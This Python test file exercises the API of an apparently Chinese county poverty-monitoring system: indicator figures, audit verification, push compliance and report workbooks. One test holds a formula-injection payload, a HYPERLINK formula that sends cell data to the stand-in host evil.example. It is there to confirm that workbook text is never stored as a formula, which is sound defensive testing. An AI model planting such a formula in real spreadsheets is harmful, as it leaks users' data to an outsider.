"""Indicators, push compliance, reports and meetings over HTTP (domain.md §10, §12): figures
with their inputs' digest, drill-down, as-of recomputation, verification, areas, the monthly
and quarterly reports as JSON and as workbooks."""

from __future__ import annotations

import io
import re
import time
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime
from typing import Any

import openpyxl

from application.computing import FIGURES, WAITING_AT_MOST
from tests.http.conftest import OTHER_TOWNSHIP, Api
from tests.http.kit import COUNTY_DECISION, call, problem, register, set_income_line


def figure(result: dict[str, Any], code: str, level: str = "county", area: str = "全县") -> tuple:
    found = [f for f in result["figures"] if (f["code"], f["level"], f["area"]) == (code, level, area)]
    assert len(found) == 1, (code, level, area, result["figures"])
    return found[0]["numerator"], found[0]["denominator"]


def indicators(api: Api, who: str = "county", **params: Any) -> dict[str, Any]:
    response = api.get("/api/indicators", who, **params)
    assert response.status_code == 200, response.text
    return response.json()


def county(api: Api) -> None:
    """Two households included in March (one in 9 days, one in 17), one in another township."""
    register(api, 1).included()
    late = register(api, 2)
    late.visited()
    late.do("/identification/village-notice", {"case_number": 1, "decision": "通过",
                                               "notice_from": "2025-03-03", "notice_to": "2025-03-08",
                                               "occurred_on": "2025-03-09"})
    late.do("/identification/township-review", {"case_number": 1, "decision": "通过",
                                                "occurred_on": "2025-03-04"})
    late.do("/identification/county-decision", {**COUNTY_DECISION, "occurred_on": "2025-03-18"})
    register(api, 3, township=OTHER_TOWNSHIP, village="西村").included()
    api.catch_up()


def test_figures_drill_down_and_areas(api: Api) -> None:
    county(api)
    result = indicators(api, period="2025-03")
    assert result["source"] == "read_models" and result["digest"].startswith("sha256:")
    assert figure(result, "timely_identification") == (2, 3)
    assert figure(result, "timely_identification", "township", "银坊镇") == (1, 2)
    assert "15日内" in result["formulas"]["识别认定时限达标率"]

    drill = indicators(api, period="2025-03", indicator="识别认定时限达标率", township="银坊镇")
    items = {item["key"]: (item["numerator"], item["note"]) for item in drill["detail"]["items"]}
    assert items["130630000002#1"] == (0, "发现2025-03-01，纳入2025-03-18，用时17天（超时）")
    assert len(items) == 2

    # a township sees its own figures only, and is refused another's
    own = indicators(api, "township", period="2025-03")
    assert {(f["level"], f["area"]) for f in own["figures"]} == {("township", "银坊镇")}
    problem(api.get("/api/indicators", "township", period="2025-03", township=OTHER_TOWNSHIP),
            403, "OUTSIDE_AREA", field="township")
    problem(api.get("/api/indicators", "department", period="2025-03", department="民政局"),
            403, "OTHER_DEPARTMENT", field="department")
    problem(api.get("/api/indicators", "village", period="2025-03"), 403, "ROLE_FORBIDDEN")
    problem(api.get("/api/indicators", period="2025-13"), 422, "PERIOD_INVALID", field="period")
    problem(api.get("/api/indicators", period="2025", indicator="满意度"), 422, "INDICATOR_UNKNOWN")


def test_a_published_result_verifies_until_the_log_disagrees(api: Api) -> None:
    county(api)
    published = indicators(api, "assessment", period="2025-03")
    check = api.post("/api/indicators/verify", published, "auditor")
    assert check.status_code == 200, check.text
    assert check.json()["matches"] is True
    assert check.json()["recomputed_digest"] == published["digest"]

    forged = {**published, "figures": [dict(f) for f in published["figures"]]}
    forged["figures"][0]["numerator"] += 1
    answer = api.post("/api/indicators/verify", forged, "auditor").json()
    assert answer["matches"] is False and any("分子" in d for d in answer["differences"])
    problem(api.post("/api/indicators/verify", published, "township"), 403, "OUTSIDE_AREA")


def test_as_of_a_recorded_time_ignores_later_corrections(api: Api) -> None:
    county(api)
    before = indicators(api, period="2025-03", as_of="2025-12-01T12:00+08:00")
    api.clock.now = datetime(2026, 1, 15, 2, tzinfo=UTC)
    # the county decision (version 6) was in fact taken on 03-15: 14 days, on time
    correction = {"corrects_version": 6, "changes": {"occurred_on": "2025-03-15"},
                  "reason": "审定日期录入错误", "occurred_on": "2026-01-15"}
    api.ok("/api/households/130630000002/corrections", correction)
    api.catch_up()
    now = indicators(api, period="2025-03")
    assert figure(now, "timely_identification") == (3, 3)
    again = indicators(api, period="2025-03", as_of=before["as_of"], position=before["position"])
    assert again["digest"] == before["digest"]
    assert figure(again, "timely_identification") == (2, 3)
    problem(api.get("/api/indicators", period="2025-03", position=3), 422, "AS_OF_REQUIRED")


def test_meetings_pushes_and_compliance(api: Api) -> None:
    meeting = {"meeting_id": "HS-2025-03", "occurred_on": "2025-03-28",
               "departments_present": ["乡村振兴局", "医保局"], "topics": ["三月研判"],
               "decisions": ["纳入两户"], "households_discussed": ["130630000001"]}
    recorded = api.ok("/api/meetings/consultations", meeting)
    assert recorded["meeting_id"] == "HS-2025-03"
    problem(api.post("/api/meetings/consultations", {**meeting, "meeting_id": "HS-x",
                                                     "topics": []}, "county"), 400, "INVALID_REQUEST")
    problem(api.post("/api/meetings/consultations", meeting, "township"), 403, "ROLE_FORBIDDEN")
    listed = api.get("/api/meetings", "assessment", year=2025).json()
    assert [(m["kind"], m["meeting_id"]) for m in listed] == [("月分析会商", "HS-2025-03")]
    # read-your-writes: the figures wait for the read models to pass the meeting's position
    assert figure(indicators(api, period="2025-Q1", after=recorded["position"]), "consultations") == (1, 3)

    pushed = api.post("/api/pushes", {"batch_id": "YB-2025-11下旬", "tier": "县级筛查",
                                      "period": "2025-11下旬", "rows": []}, "department").json()
    compliance = api.get("/api/push-compliance", "department", period="2025-11",
                         after=pushed["position"]).json()
    statuses = {p["period"]: p["status"] for p in compliance["pushes"]}
    # the 医保局's ten-day pushes of November: the last came on 12-01, one day late
    # and its monthly push for other insured people never came
    assert statuses == {"2025-11上旬": "漏报", "2025-11中旬": "漏报", "2025-11下旬": "迟报1天",
                        "2025-11": "漏报"}
    assert {p["department"] for p in compliance["pushes"]} == {"医保局"}
    late = next(p for p in compliance["pushes"] if p["period"] == "2025-11下旬")
    assert (late["tier"], late["batch_id"], late["days_late"]) == ("县级筛查", "YB-2025-11下旬", 1)
    assert late["received_at"].startswith("2025-12-01T02:00")
    # the batch itself, received in December: not in November's list of batches
    assert compliance["batches"] == []
    december = api.get("/api/push-compliance", "department", period="2025-12").json()
    assert [(b["batch_id"], b["tier"], b["rows"]) for b in december["batches"]] == [
        ("YB-2025-11下旬", "县级筛查", 0)]


def test_monthly_and_quarterly_reports_as_json_and_workbooks(api: Api) -> None:
    county(api)
    report = api.get("/api/reports/monthly", "county", month="2025-03")
    assert report.status_code == 200, report.text
    tables = {t["name"]: t for t in report.json()["tables"]}
    included = tables["本月纳入"]
    assert [row[0] for row in included["rows"]] == ["130630000001", "130630000002", "130630000003"]
    assert included["rows"][1][6:8] == [17, "否"]
    assert {"考核指标", "部门推送", "新增预警", "案件阶段", "超期未认定", "本月未走访",
            "口径说明"} <= set(tables)

    township = api.get("/api/reports/monthly", "township", month="2025-03").json()
    assert [row[0] for row in {t["name"]: t for t in township["tables"]}["本月纳入"]["rows"]] == [
        "130630000001", "130630000002"]

    workbook = api.get("/api/reports/monthly", "county", month="2025-03", format="xlsx")
    assert workbook.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    book = openpyxl.load_workbook(io.BytesIO(workbook.content))
    assert book.sheetnames[0] == "摘要" and "本月纳入" in book.sheetnames
    sheet = book["本月纳入"]
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]][:3] == ["户编号", "乡镇", "行政村"]
    assert sheet.cell(row=3, column=1).value == "130630000002"

    quarterly = api.get("/api/reports/quarterly", "assessment", quarter="2025-Q1").json()
    ranking = {t["name"]: t for t in quarterly["tables"]}["乡镇排名"]
    assert [row[1] for row in ranking["rows"]] == [OTHER_TOWNSHIP, "银坊镇"]  # 1/1 ranks above 1/2
    problem(api.get("/api/reports/quarterly", "township", quarter="2025-Q1"), 403, "ROLE_FORBIDDEN")
    problem(api.get("/api/reports/monthly", "county", month="2025-Q1"), 422, "PERIOD_INVALID")


def test_the_workbooks_carry_the_indicator_matrix_coloured_by_band(api: Api) -> None:
    """The monthly and quarterly workbooks' 指标矩阵（乡镇）: a township per row (the county's
    total first), an indicator per column, each rate a percentage coloured by its band with its
    numerator and denominator in the cell's comment; the quarter's ranked."""
    from application.matrix import BANDS

    county(api)
    monthly = api.get("/api/reports/monthly", "county", month="2025-03", format="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(monthly.content))["指标矩阵（乡镇）"]
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["名次", "乡镇", "识别认定时限达标率"] and "返贫致贫人数" in header
    rows = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    assert list(rows) == ["全县（合计）", OTHER_TOWNSHIP, "银坊镇"]  # 1/1 ranks above 1/2
    timely = header.index("识别认定时限达标率")
    ours, theirs = rows["银坊镇"][timely], rows[OTHER_TOWNSHIP][timely]
    assert (ours.value, ours.number_format) == (0.5, "0.0%")
    assert ours.comment.text == "15日内纳入的案件 1 / 纳入的案件 2"
    poor, good = BANDS[-1].fill, BANDS[0].fill
    assert ours.fill.start_color.rgb.endswith(poor) and theirs.fill.start_color.rgb.endswith(good)
    assert [rows["银坊镇"][0].value, rows[OTHER_TOWNSHIP][0].value] == [2, 1]
    readings = openpyxl.load_workbook(io.BytesIO(monthly.content))["口径说明"]
    assert any(row[0].value == "颜色分档" for row in readings.iter_rows())

    quarterly = api.get("/api/reports/quarterly", "assessment", quarter="2025-Q1", format="xlsx")
    book = openpyxl.load_workbook(io.BytesIO(quarterly.content))
    assert {"指标矩阵（乡镇）", "指标矩阵（部门）"} <= set(book.sheetnames)
    departments = book["指标矩阵（部门）"]
    assert [c.value for c in departments[1]][1:5] == [
        "部门", "识别认定时限达标率", "预警核实率", "部门推送及时率"]


def test_the_push_ledger_sheet_says_what_was_due_and_what_arrived_province_apart(api: Api) -> None:
    """部门推送: per department and period what was due and how it was met, then each batch that
    arrived for it, the province's apart from the county's, its rows by outcome and the time."""
    from tests.http.kit import head_of

    register(api, 1)
    api.clock.now = datetime(2025, 12, 5, 2, tzinfo=UTC)
    for batch, tier in (("SJ-12上旬", "省级推送"), ("YB-12上旬", "县级筛查")):
        answer = api.post("/api/pushes", {
            "batch_id": batch, "tier": tier, "period": "2025-12上旬",
            "rows": [{"person_id_number": head_of(1), "risk_types": ["因病"], "occurred_on": "2025-12-03"}]},
            "department")
        assert answer.status_code == 200, answer.text
    api.catch_up()
    workbook = api.get("/api/reports/monthly", "county", month="2025-12", format="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(workbook.content))["部门推送"]
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
    line = [r for r in rows if (r["部门"], r["期次"]) == ("医保局", "2025-12上旬")]
    assert [(r["情况"], r["层级"], r["批次号"]) for r in line] == [
        ("按时", "县级筛查", "YB-12上旬"), ("按时", "省级推送", "SJ-12上旬")]
    assert line[0]["接收时间（北京时间）"] == "2025-12-05 10:00"
    assert [(r["条数"], r["新案件"], r["并入案件"], r["重复"], r["拒收"]) for r in line] == [
        (1, 0, 0, 1, 0), (1, 1, 0, 0, 0)]  # the county's row repeats what the province pushed
    assert "推送批次" not in openpyxl.load_workbook(io.BytesIO(workbook.content)).sheetnames


def test_text_in_a_workbook_is_never_a_formula_and_odd_times_are_refused(api: Api) -> None:
    topic = '=HYPERLINK("http://evil.example/?"&A1,"点击查看附件")'
    api.ok("/api/meetings/consultations", {"meeting_id": "HS-2025-02", "occurred_on": "2025-02-20",
                                           "departments_present": ["乡村振兴局"], "topics": [topic]})
    api.catch_up()
    response = api.get("/api/reports/quarterly", "assessment", quarter="2025-Q1", format="xlsx")
    cell = openpyxl.load_workbook(io.BytesIO(response.content))["会商调度会议"].cell(row=2, column=5)
    assert (cell.data_type, cell.value) == ("s", topic)

    published = indicators(api, period="2025")
    for moment in ("0001-01-01T00:00:00+09:00", "9999-12-31T23:00:00-01:00"):
        problem(api.post("/api/indicators/verify", {**published, "as_of": moment}, "auditor"),
                422, "AS_OF_RANGE", field="as_of")


def test_reads_on_a_fresh_store_record_nothing(api: Api) -> None:
    """The cadence table is recorded when the server starts; no read of figures ever writes."""
    case_files = api.app.state.case_files
    table = case_files.governance().cadence_table()
    assert table is not None and table.digest == api.app.state.indicators.cadences.digest
    end = case_files.max_position()
    indicators(api, "assessment", period="2025")
    indicators(api, "auditor", period="2025", as_of="2025-11-30")
    assert api.get("/api/push-compliance", period="2025-11").status_code == 200
    assert api.get("/api/reports/monthly", month="2025-11").status_code == 200
    assert api.get("/api/reports/quarterly", "assessment", quarter="2025-Q4").status_code == 200
    assert case_files.max_position() == end


def test_as_of_a_past_time_is_the_same_result_however_much_is_recorded_later(api: Api) -> None:
    county(api)  # recorded at 10:00 in the county on 1 December
    api.clock.now = datetime(2025, 12, 1, 3, tzinfo=UTC)
    as_of = "2025-12-01T10:30+08:00"  # a past time (a time to come would be read as now)
    before = indicators(api, "assessment", period="2025-03", as_of=as_of)
    assert before["position"] == api.app.state.case_files.max_position()
    # later: a correction, a new household included, a meeting
    api.clock.now = datetime(2026, 1, 15, 2, tzinfo=UTC)
    api.ok("/api/households/130630000002/corrections", {
        "corrects_version": 6, "changes": {"occurred_on": "2025-03-15"},
        "reason": "审定日期录入错误", "occurred_on": "2026-01-15"})
    register(api, 4).included()
    api.ok("/api/meetings/consultations", {
        "meeting_id": "HS-2026-01", "occurred_on": "2026-01-15", "departments_present": ["乡村振兴局"],
        "topics": ["一月研判"]})
    api.catch_up()
    assert api.app.state.case_files.max_position() > before["position"]
    again = indicators(api, "assessment", period="2025-03", as_of=as_of)
    assert (again["position"], again["digest"]) == (before["position"], before["digest"])
    assert again["figures"] == before["figures"]
    check = api.post("/api/indicators/verify", again, "auditor").json()
    assert check["matches"] is True, check["differences"]


def _assessed(home: Any, wages: str, day: str) -> None:
    home.do("/income-assessments", {"year": 2024, "wages": wages, "business": "0", "property": "0",
                                    "transfers": "0", "production_costs": "0", "occurred_on": day},
            who="village")


def test_fell_into_poverty_is_judged_by_the_poverty_line_not_by_inclusion(api: Api) -> None:
    """Given the lines of 2025 (monitoring 7,000, poverty 4,800), a monitoring object at
    6,000/person and a 一般农户 at 3,000/person: 3 people 致贫, none 返贫, one household newly
    identified; a poverty line not below the monitoring line is refused."""
    set_income_line(api, "7000")
    problem(call(api, "PUT", "/api/poverty-lines/2025", "county",
                 {"yuan_per_capita": "7000", "occurred_on": "2025-01-01"}), 422, "LINE_ORDER",
            "yuan_per_capita")
    assert call(api, "PUT", "/api/poverty-lines/2025", "county",
                {"yuan_per_capita": "4800", "occurred_on": "2025-01-01"}).status_code == 201
    line = api.get("/api/poverty-lines", on="2025-06-01").json()
    assert line["yuan_per_capita"] in ("4800", 4800) and line["on"] == "2025-06-01"
    at_risk = register(api, 1).included()
    _assessed(at_risk, "18000", "2025-04-01")
    _assessed(register(api, 2), "9000", "2025-05-01")
    api.catch_up()
    result = indicators(api, period="2025")
    assert figure(result, "fell_into_poverty") == (3, None)
    assert figure(result, "fell_in") == (3, None) and figure(result, "fell_back") == (0, None)
    assert figure(result, "new_households") == (1, None) and figure(result, "new_people") == (3, None)
    assert "扶贫标准" in result["formulas"]["返贫致贫人数"]
    # the same figures recomputed from the log as of now
    assert figure(indicators(api, period="2025", as_of=datetime.now(UTC).isoformat()),
                  "fell_into_poverty") == (3, None)


def test_the_annual_assessment_ranks_units_and_verifies_later(api: Api) -> None:
    """年考核评估: the year's figures per township ranked by the weighted method, computed as of
    the assessment time; the published report sent back verifies until the log disagrees."""
    county(api)
    assessed_at = datetime.now(UTC).isoformat()
    report = api.get("/api/reports/annual", "assessment", year="2025", as_of=assessed_at).json()
    tables = {t["name"]: t for t in report["tables"]}
    assert {"乡镇考核排名", "部门考核排名", "考核指标", "口径说明"} <= set(tables)
    ranking = tables["乡镇考核排名"]
    assert ranking["columns"][-1] == "综合得分（按分母加权）"
    assert [row[1] for row in ranking["rows"]][:2] == [OTHER_TOWNSHIP, "银坊镇"]
    assert any(row[0] == "排名方法" for row in tables["口径说明"]["rows"])
    assert report["result"]["digest"] in {m["value"] for m in report["meta"]}
    checked = api.post("/api/indicators/verify", report["result"], "assessment")
    assert checked.status_code == 200 and checked.json()["matches"] is True, checked.text
    problem(api.get("/api/reports/annual", "township", year="2025"), 403, "ROLE_FORBIDDEN")
    problem(api.get("/api/reports/annual", "county", year="2025-Q1"), 400, "INVALID_REQUEST", "year")


def test_a_report_workbook_shows_rates_as_percentages_and_times_in_beijing(api: Api) -> None:
    county(api)
    response = api.get("/api/reports/annual", "assessment", year="2025", format="xlsx")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = book["考核指标"]
    headers = [c.value for c in sheet[1]]
    rate = next(row[headers.index("比率")] for row in sheet.iter_rows(min_row=2)
                if row[headers.index("比率")].value is not None)
    assert isinstance(rate.value, float) and rate.number_format == "0.0%"
    about = {row[0].value: row[1].value for row in book["摘要"].iter_rows(min_row=2)}
    as_of = about["数据截至（登记时间，北京时间）"]
    assert "T" not in as_of and "+00:00" not in as_of


def test_figures_asked_for_past_the_queue_are_a_503_to_retry(api: Api) -> None:
    """While one computation of figures runs in the server process and `WAITING_AT_MOST` wait
    their turn, the API and the workbench page answer a request for figures at once with 503,
    Retry-After and FIGURES_BUSY, holding no thread, and the first page opens without its
    trend, saying why; when the queue has gone, all answer in full."""
    county(api)
    client = api.client
    api.app.state.logins.set_password("county-01", "密码-county-01")
    login = client.get("/web/login").text
    token = re.search(r'name="_csrf_token" value="([^"]*)"', login)
    assert token is not None
    signed = client.post("/web/login", follow_redirects=False, data={  # (not to /web/ yet)
        "_csrf_token": token.group(1), "name": "county-01", "password": "密码-county-01",
        "next": "/web/"})
    assert signed.status_code in (302, 303), signed.text
    service = api.app.state.indicators
    with ThreadPoolExecutor(WAITING_AT_MOST) as pool:
        with FIGURES:  # a computation running
            queued = [pool.submit(service.compute, "2025") for _ in range(WAITING_AT_MOST)]
            deadline = time.monotonic() + 30
            while FIGURES.waiting < WAITING_AT_MOST and time.monotonic() < deadline:
                time.sleep(0.01)
            busy = api.get("/api/indicators", period="2025")
            assert busy.status_code == 503 and busy.headers["Retry-After"] == "5", busy.text
            assert busy.json()["code"] == "FIGURES_BUSY" and "稍后重试" in busy.json()["detail"]
            page = client.get("/web/indicators", params={"period": "2025"})
            assert page.status_code == 503 and page.headers["Retry-After"] == "5"
            assert "稍后重试" in page.text and "FIGURES_BUSY" in page.text
            # the first page opens all the same: only its trend says it waits
            first = client.get("/web/")
            assert first.status_code == 200 and 'id="chart-trend"' not in first.text
            assert "识别认定时限达标率（按月）暂未显示：正在计算考核指标" in first.text
        for computed in queued:
            computed.result(timeout=60)
    assert figure(indicators(api, period="2025"), "timely_identification") == (2, 3)
    assert client.get("/web/indicators", params={"period": "2025"}).status_code == 200
    assert 'id="chart-trend"' in client.get("/web/").text
